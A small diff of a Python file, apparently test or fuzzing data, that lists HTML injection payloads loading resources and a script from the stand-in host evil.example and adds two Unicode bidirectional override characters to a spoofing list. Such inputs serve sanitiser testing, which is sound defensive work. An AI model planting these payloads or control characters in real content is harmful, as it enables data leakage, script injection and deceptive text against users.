@@ -47,7 +47,7 @@ _ASKING = (
     "<body background=\"https://evil.example/{}\">", "<svg><filter><feImage href=\"https://evil.example/{}\"/></filter></svg>", "https://evil.example/{}",
     "<img srcset=\"https://evil.example/{} 1x\">", "<script src=\"https://evil.example/{}.js\"></script>",
 )  # fmt: skip
-_TURNED = ("\u202e", "\u2066", "\u202d", "\u200f", "\u061c")
+_TURNED = ("\u202e", "\u2066", "\u2067", "\u2068", "\u202d", "\u200f", "\u061c")
 
 
 def markup() -> list[str]:
